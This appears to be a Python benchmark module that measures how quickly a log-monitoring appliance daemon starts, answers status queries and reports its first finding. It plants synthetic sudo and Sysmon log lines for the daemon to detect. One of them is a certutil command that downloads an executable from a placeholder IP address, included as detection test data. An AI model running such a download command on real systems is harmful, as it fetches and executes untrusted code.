"""Beside the line: how long after its start the appliance answers, and finds.

The daemon starts on a log that already holds one line that must be found: cold on an empty state
directory, then warm on what the cold start left there, with one more line. Files are in the page
cache after the first start: what is measured is not a cold disk.
"""

import argparse
import json
import os
import subprocess
import tempfile
import time
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Final

from appliance.control import ask_daemon
from appliance.errors import Exit
from appliance.places import default_rules, find_knowledge, find_models
from benchmarks.children import appliance_command, end_child, run_to_end, show_command, show_part
from benchmarks.figures import Report
from tests.demo.plant import sudo_line
from tests.demo.receiver import SyslogReceiver
from tests.demo.render import write_syslog_3164

NAME: Final = "start_up"
TEXT: Final = "seconds until the daemon answers and finds; run time of small commands"
ASK_SECONDS: Final = 0.005
PATIENCE_SECONDS: Final = 60.0
CONFIG: Final = """\
state_dir: {folder}/state
hostname: appliance.bench.test
model: {model}
rules: [{rules}]
sources:
  - name: auth
    type: files
    paths: [{folder}/auth.log]
sinks:
  - name: collector
    type: syslog
    transport: unix
    address: {folder}/syslog.sock
"""


def add_options(parser: argparse.ArgumentParser) -> None:
    """Options of this part."""
    group = parser.add_argument_group(NAME, TEXT)
    group.add_argument("--starts", type=int, default=5, metavar="N", help="starts a case (5)")


def measure(options: argparse.Namespace, report: Report, folder: Path) -> None:
    """Print the figures of every case. Raises RuntimeError when something does not start."""
    models = [False, True]
    if find_models() is None or find_knowledge() is None:
        report.note("no encoder or knowledge base is built: measured without the model only")
        models = [False]
    rule_sets = [[default_rules()]]
    if options.rules is not None:
        rule_sets.append([default_rules(), options.rules.resolve()])
    words = ["--starts", options.starts, *(["--rules", options.rules] if options.rules else [])]
    cases = [(model, "sudo") for model in models] + [(False, "Sysmon")]
    for rules in rule_sets:
        about = "default rules" if len(rules) == 1 else f"default rules and {rules[1].name}"
        for model, kind in cases:
            case = f"the daemon, {about}, {'with' if model else 'without'} the model, {kind}"
            report.begin(NAME, case, show_part(NAME, *words))
            report.note(f"each start: {show_command('run', '--config', 'FILE')}")
            times: dict[str, list[tuple[float, float]]] = {"cold": [], "warm": []}
            for _ in range(options.starts):
                place = Path(tempfile.mkdtemp(prefix="s", dir=folder))
                for start in times.values():
                    start.append(start_once(place, rules, model, LINES[kind]))
            for name, starts in times.items():
                answered, found = zip(*starts, strict=True)
                report.add_runs(f"{name}: status answered", answered, "s", "starts")
                report.add_runs(f"{name}: first finding received", found, "s", "starts")
    config = place / "appliance.yaml"
    _time_command(report, options.starts, folder, ["--help"], Exit.DONE)
    status = ["status", "--config", str(config)]
    _time_command(report, options.starts, folder, status, Exit.NOT_RUNNING)


def _write_sudo(at: float) -> str:
    message = sudo_line("r.brandt", "/bin/bash")
    return write_syslog_3164(at, "nh-jump01", "sudo", None, message, UTC)


def _write_sysmon(at: float) -> str:
    return json.dumps({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "nh-ws01",
        "UtcTime": datetime.fromtimestamp(at, UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
        "Image": r"C:\Windows\System32\certutil.exe", "OriginalFileName": "CertUtil.exe",
        "CommandLine": "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe",
        "ParentImage": r"C:\Windows\System32\cmd.exe", "User": r"NH\r.brandt",
    })  # fmt: skip


#: Lines that must be found, by what they are.
LINES: Final[dict[str, Callable[[float], str]]] = {"sudo": _write_sudo, "Sysmon": _write_sysmon}


def start_once(
    folder: Path, rules: Sequence[Path], model: bool, write_line: Callable[[float], str]
) -> tuple[float, float]:
    """Seconds from the start of the process to `status` answered, and to the first finding."""
    config = folder / "appliance.yaml"
    paths = ", ".join(json.dumps(str(path)) for path in rules)
    config.write_text(CONFIG.format(folder=folder, rules=paths, model=str(model).lower()))
    with (folder / "auth.log").open("a") as log:
        log.write(write_line(time.time()) + "\n")
    found: list[float] = []
    (folder / "syslog.sock").unlink(missing_ok=True)
    receiver = SyslogReceiver(
        folder / "syslog.sock",
        lambda message: found.append(message.at) if message.kind == "FINDING" else None,
        time.monotonic,
    )
    with (folder / "daemon.log").open("wb") as said_to:
        began = time.monotonic()
        daemon = subprocess.Popen(
            appliance_command("run", "--config", config),
            stdin=subprocess.DEVNULL,
            stdout=said_to,
            stderr=said_to,
            env={**os.environ, "TMPDIR": str(folder)},
        )
        try:
            answered = _await_answer(daemon, folder / "state" / "control.sock", model)
            receiver.wait_for(lambda: bool(found), PATIENCE_SECONDS)
        finally:
            end_child(daemon)
            receiver.close()
    if answered is None or not found:
        said = (folder / "daemon.log").read_text(errors="backslashreplace")
        raise RuntimeError(f"the daemon did not answer or did not find: {said}")
    return answered - began, found[0] - began


def _await_answer(daemon: subprocess.Popen[bytes], socket: Path, model: bool) -> float | None:
    until = time.monotonic() + PATIENCE_SECONDS
    while time.monotonic() < until and daemon.poll() is None:
        answer = ask_daemon(socket, {"ask": "status"})
        if answer is not None:
            at = time.monotonic()
            if model and answer["models"]["missing"]:
                raise RuntimeError(f"not with the model: {answer['models']['missing']}")
            return at
        time.sleep(ASK_SECONDS)
    return None


def _time_command(
    report: Report, count: int, folder: Path, words: list[str], expected: Exit
) -> None:
    shown = ["FILE" if word.endswith(".yaml") else word for word in words]
    command = show_part(NAME, "--starts", count)
    report.begin(NAME, f"run time of `{show_command(*words[:1])}`", command)
    report.note(f"each run: {show_command(*shown)}")
    seconds = []
    for _ in range(count):
        ended = run_to_end(appliance_command(*words), folder)
        if ended.code != expected:
            raise RuntimeError(f"{words} ended with {ended.code}: {ended.output}")
        seconds.append(ended.seconds)
    report.add_runs("start to end", seconds, "s")
